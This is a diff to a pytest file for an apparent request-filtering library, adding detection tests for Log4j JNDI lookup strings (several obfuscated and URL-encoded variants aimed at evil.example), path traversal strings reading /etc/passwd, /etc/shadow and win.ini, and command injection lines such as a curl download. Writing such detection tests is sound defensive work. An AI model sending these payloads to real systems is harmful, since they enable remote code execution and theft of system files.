@@ -7,7 +7,16 @@ import pytest
 
 from guard.engine import Guard
 from guard.policy import load_text
-from guard.policy.payloads import MAX_SQL_PARSE_CHARS, MAX_SQL_STARTS, MAX_SQL_STATEMENT, code_exec, sqli, xss
+from guard.policy.payloads import (
+    MAX_LOOKUP_DEPTH,
+    MAX_SQL_PARSE_CHARS,
+    MAX_SQL_STARTS,
+    MAX_SQL_STATEMENT,
+    code_exec,
+    path_traversal,
+    sqli,
+    xss,
+)
 from guard.policy.rules import RuleError, apply_rules
 from guard.subject import HttpSubject
 from tests._backends import ScriptedBackend
@@ -99,6 +108,12 @@ CODE = [
     "; cmd /c whoami",
     "; powershell -enc SQBFAFgA",
     "file.txt; curl http://evil.example/x -o /tmp/x",
+    "${jndi:ldap://evil.example/a}",  # a Log4j JNDI lookup, also with the lookups inside it Log4j resolves first
+    "User-Agent: ${${lower:j}ndi:rmi://evil.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
+    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
+    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
 ]
 CODE_LOOKALIKES = [
     "$(a b" * 2000,  # substitutions never closed (each "$(" once scanned to the line's end: quadratic)
@@ -122,6 +137,8 @@ CODE_LOOKALIKES = [
     "curl -s https://api.example.com/v1 | python3 -m json.tool",
     "curl -s https://api.example.com/v1 | python -c 'import json, sys; print(json.load(sys.stdin))'",
     "sort=id",
+    "Hello ${name}, your order ${order.id} ships on ${date:yyyy-MM-dd}; reply to ${env:SUPPORT_EMAIL:-help@x.io}",
+    "${" * 3000 + "}" * 3000,
 ]
 BENIGN = [
     "I'm sure it's 1 or 2",
@@ -229,6 +246,31 @@ def test_text_in_other_scripts_is_not_folded_into_payloads() -> None:
         assert not (sqli(text) or xss(text) or code_exec(text)), text
 
 
+def test_lookups_are_resolved_up_to_the_depth() -> None:
+    def nested(depth: int) -> str:  # the j of jndi behind depth lookups inside one another
+        return "${" + "${lower:" * depth + "j" + "}" * depth + "ndi:ldap://evil.example/a}"
+
+    assert code_exec(nested(MAX_LOOKUP_DEPTH - 1))
+    assert not code_exec(nested(MAX_LOOKUP_DEPTH))
+
+
+@pytest.mark.parametrize("text", [
+    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd",
+    "/var/www/../../etc/shadow", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%255c..%255cwindows%255cwin.ini", "..\\/..\\/etc/passwd", "file=../../config/database.yml",
+])  # fmt: skip
+def test_paths_that_climb_folders_are_found(text: str) -> None:
+    assert path_traversal(text)
+
+
+@pytest.mark.parametrize("text", [
+    "../assets/logo.png is not found when I build", "copy ..\\config\\app.ini to the current folder",
+    "wait... what?/ and then.. /no", "." * 100_000, "../x" * 30_000, "Version 2.0../3.0.. both", "",
+])  # fmt: skip
+def test_one_step_up_and_dots_are_not_traversal(text: str) -> None:
+    assert not path_traversal(text)
+
+
 @pytest.mark.parametrize("text", CODE_LOOKALIKES)
 def test_talk_about_code_and_commands_is_not_code(text: str) -> None:
     assert not code_exec(text)
@@ -279,7 +321,7 @@ def test_xss_reads_every_tag_in_one_scan() -> None:
     assert xss("<a" * 4000 + " onload=x>")
 
 
-@pytest.mark.parametrize("function", [sqli, xss, code_exec])
+@pytest.mark.parametrize("function", [sqli, xss, code_exec, path_traversal])
 @pytest.mark.parametrize("value", [42, None, ["DROP TABLE users"], b"<script>"])
 def test_a_non_string_raises_type_error(function, value) -> None:
     with pytest.raises(TypeError, match="takes a string"):
